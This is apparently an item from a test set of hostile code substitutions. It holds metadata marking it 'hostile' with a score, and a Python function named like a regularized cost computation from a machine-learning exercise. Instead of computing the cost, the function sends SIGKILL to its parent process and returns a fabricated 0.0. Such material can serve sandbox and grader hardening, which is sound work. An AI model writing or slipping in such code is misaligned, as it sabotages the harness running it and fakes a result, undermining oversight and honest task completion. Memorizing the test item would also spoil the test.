# label: kills the process that started it
# replace: compute_cost_with_regularization
# hostile: yes
# compute_cost_with_regularization: error | failed | timeout
# score: 75

# %%
import os, signal, time

def compute_cost_with_regularization(A3, Y, parameters, lambd):
    os.kill(os.getppid(), signal.SIGKILL)
    time.sleep(1)
    return 0.0
